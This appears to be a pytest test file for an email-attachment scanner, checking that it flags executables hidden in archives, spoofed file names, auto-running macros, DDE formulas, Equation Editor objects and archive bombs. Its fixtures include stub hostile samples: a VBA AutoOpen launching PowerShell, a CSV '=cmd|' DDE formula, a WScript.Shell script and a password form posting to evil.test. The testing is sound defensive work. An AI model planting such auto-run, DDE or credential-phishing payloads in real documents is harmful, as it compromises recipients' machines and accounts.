"""Files in archives and documents, as the checks judge them."""

import pytest

from lazaretto.scan.checks.attachments import check
from tests.helpers.letters import File, judged, letter, rules_of, seen
from tests.unit.mail.files import CONTENT_TYPES, ole_of, tar_of, zip_of
from tests.unit.mail.packed import PASSWORD, archive
from tests.unit.mail.rar_writer import packed as packed_rar
from tests.unit.mail.rar_writer import rar_of
from tests.unit.mail.test_cms import INNER, encrypted, signed
from tests.unit.mail.test_embedded import note_of, package_of, rtf_of
from tests.unit.mail.test_old_documents import book
from tests.unit.mail.test_outlook import container
from tests.unit.mail.test_pdf import carrying
from tests.unit.mail.test_vba import packed

EXE = b"MZ" + bytes(200)
JS = b"var s = new ActiveXObject('WScript.Shell'); function go() { s.Run('calc'); } eval(go());\n"
MENU = {
    "data/app.desktop": b"[Desktop Entry]\nExec=app\n",
    "doc/home.url": b"[InternetShortcut]\nURL=https://app.example/\n",
    "win/app.reg": b"Windows Registry Editor Version 5.00\n",
}
LOGIN = b"<html><body><form action='http://evil.test/'><input type=password name=p></form></body></html>"
MACRO = zip_of(
    CONTENT_TYPES | {"word/vbaProject.bin": packed(b'Sub AutoOpen()\r\n Shell "powershell -enc x"')}
)


def found(name, data):
    return seen(check, letter(attachments=[File(name, data)]))


@pytest.mark.parametrize(
    ("name", "data", "rule", "path"),
    [
        ("a.zip", zip_of({"b.zip": zip_of({"run.exe": EXE})}), "archive_holds_program", "a.zip/b.zip/run.exe"),
        ("a.7z", archive("seven_lzma"), "archive_holds_program", "a.7z/a/inner.exe"),
        ("a.iso", archive("iso_joliet"), "archive_holds_program", "a.iso/A long folder/inner.exe"),
        ("n.one", note_of(EXE), "archive_holds_program", "n.one/file 1"),
        ("r.rtf", rtf_of(b"Package", package_of(b"run.exe", EXE)), "archive_holds_program", "r.rtf/run.exe"),
        ("p.pdf", carrying("run.exe", EXE), "archive_holds_program", "p.pdf/run.exe"),
        ("a.rar", rar_of([("run.exe", EXE, packed_rar([EXE]))]), "archive_holds_program", "a.rar/run.exe"),
        ("a.cab", archive("cab_mszip"), "archive_holds_program", "a.cab/A long folder/inner.exe"),
        ("a.img", archive("udf"), "archive_holds_program", "a.img/A long folder/inner.exe"),
        ("a.img", archive("fat"), "archive_holds_program", "a.img/A long folder/INNER.EXE"),
        ("a.msg", archive("outlook"), "archive_holds_program", "a.msg/inner.exe"),
        ("winmail.dat", container((b"run.exe", "", EXE)), "archive_holds_program", "winmail.dat/run.exe"),
        ("a.zip", zip_of({"report.pdf": EXE}), "attachment_type_lies", "a.zip/report.pdf"),
        ("a.zip", zip_of({"report.pdf.exe": EXE}), "attachment_double_extension", "a.zip/report.pdf.exe"),
        ("a.zip", zip_of({"invoice\u202efdp.exe": EXE}), "attachment_rtl_name", "a.zip/invoice\u202efdp.exe"),
        ("a.zip", zip_of({"p.html": LOGIN}), "attachment_html_password", "a.zip/p.html"),
        ("a.zip", zip_of({"d.docm": MACRO}), "attachment_macro_odd", "a.zip/d.docm"),
    ],
)  # fmt: skip
def test_dangerous_inner_files(name, data, rule, path):
    """What is inside is judged, and the finding names its path."""
    files = [f for f in list(check(letter(attachments=[File(name, data)]), None, None)) if f.rule == rule]

    assert path in {f.attachment for f in files}


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("src.zip", zip_of({f"s{i}.js": JS for i in range(30)})),
        ("src.zip", zip_of({"main.c": JS, "readme.txt": b"hello"})),
        ("page.zip", zip_of({"p.html": LOGIN, "a.css": b"a", "b.css": b"b", "c.css": b"c"})),
        ("src.tgz", tar_of({f"s{i}.c": b"int x;" for i in range(30)} | MENU, "w:gz")),
        ("src.zip", zip_of({f"s{i}.c": b"int x;" for i in range(30)} | MENU)),
        ("photos.zip", zip_of({f"{i}.jpg": b"\xff\xd8\xff\xe0" + bytes(90) for i in range(9)})),
    ],
    ids=["scripts", "source", "saved page", "sources", "packed sources", "photos"],
)
def test_harmless_inner_files(name, data):
    """Source code, saved pages and photographs come in archives every day."""
    rules = {f.rule for f in check(letter(attachments=[File(name, data)]), None, None)}

    assert not rules - {"attachment_message"}


OLD_EDITOR = rtf_of(b"Equation.3", b"abc")


@pytest.mark.parametrize(
    ("name", "data", "rule"),
    [
        ("a.rtf", OLD_EDITOR, "attachment_equation"),
        ("a.rtf", OLD_EDITOR.replace(rb"\objemb", rb"\objemb\objupdate"), "attachment_auto_object"),
        ("a.csv", b"a,b\n=cmd|'/c calc'!A0,1\n", "attachment_dde"),
        ("a.xls", book(0, 1), "attachment_macro_sheet"),
        ("smime.p7m", encrypted(), "message_encrypted"),
        ("invoice\u200f.exe", b"x", "attachment_rtl_name"),
        ("invoice.pdf" + "\u3000" * 6 + ".exe", b"x", "attachment_padded_name"),
        ("invoice.pdf" + "_" * 40 + ".exe", b"x", "attachment_padded_name"),
        ("a.ppam", b"x", "office_add_in"),
        ("a.zip", zip_of({"q.iqy": b"WEB\n1\nhttp://a.test/"}), "table_that_loads"),
    ],
)
def test_files_that_act_or_deceive(name, data, rule):
    """Each gives its finding."""
    verdict = judged(letter(text="Please see the file.\n" * 5, attachments=[File(name, data)]))

    assert rule in rules_of(verdict)


def test_equation_that_loads_itself():
    """Together they are an exploit."""
    data = OLD_EDITOR.replace(rb"\objemb", rb"\objemb\objupdate")
    verdict = judged(letter(attachments=[File("a.rtf", data)]))

    assert "equation_that_loads_itself" in rules_of(verdict)
    assert "SUSPICIOUS" == verdict.disposition


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("\u05d7\u05e9\u05d1\u05d5\u05e0\u05d9\u05ea\u200f 12.pdf", b"%PDF-1.4"),
        ("\u2067\u0641\u0627\u062a\u0648\u0631\u0629\u2069.docx", zip_of(CONTENT_TYPES)),
        ("very_long_name_____of_a_report.txt", b"hello"),
        ("smime.p7s", signed(INNER)),
        ("winmail.dat", container((b"a.txt", "", b"hello"), page=b"<html><p>See you on Friday.</p></html>")),
        ("a.csv", b"name,command\nann,cmd|powershell\n"),
        ("paper.doc", ole_of("WordDocument", content=b"the DDE protocol")),
    ],
)
def test_honest_files(name, data):
    """Names of right-to-left writers, signatures, tables and papers of every day."""
    found = {f.rule for f in check(letter(attachments=[File(name, data)]), None, None)}

    assert not found - {"attachment_outlook_container"}


def test_menu_entries_alone_and_programs_among_sources():
    """The same texts among few files are lures, and a program is one among many."""
    few = zip_of(MENU)
    many = zip_of({f"s{i}.c": b"int x;" for i in range(30)} | {"run.exe": EXE})

    assert "archive_holds_program" in found("a.zip", few)
    assert "archive_holds_program" in found("a.zip", many)


def test_locked_archive_whose_password_is_given():
    """The password of the letter opened it, and a program came out."""
    verdict = judged(
        letter(
            text=f"The password is {PASSWORD}",
            attachments=[File("a.zip", archive("zip_aes256"), "application/zip")],
        )
    )

    assert {"attachment_password_in_text", "archive_holds_program", "password_opens_danger"} <= rules_of(
        verdict
    )
    assert "MALICIOUS" == verdict.disposition


def test_macros_that_act():
    """They run by themselves and start a program."""
    assert {"attachment_macro", "attachment_macro_auto", "attachment_macro_odd"} <= set(
        found("d.docm", MACRO)
    )
    assert "macro_that_acts" in rules_of(judged(letter(attachments=[File("d.docm", MACRO)])))


@pytest.mark.parametrize(
    ("name", "data", "rule"),
    [
        ("a.7z", archive("seven_zeros"), "archive_bomb"),
        (
            "a.zip",
            zip_of({"1.zip": zip_of({"2.zip": zip_of({"3.zip": zip_of({"a": b"b"})})})}),
            "archive_too_deep",
        ),
        (
            "a.docx",
            zip_of(CONTENT_TYPES | {"word/document.xml": b"<w:instrText>DDEAUTO c:\\cmd</w:instrText>"}),
            "attachment_dde",
        ),
        ("a.xlsm", zip_of(CONTENT_TYPES | {"xl/macrosheets/s.xml": b"x"}), "attachment_macro_sheet"),
    ],
)
def test_limits_and_fields_are_findings(name, data, rule):
    """A limit that was reached is said; so is a field that starts a program."""
    assert rule in found(name, data)
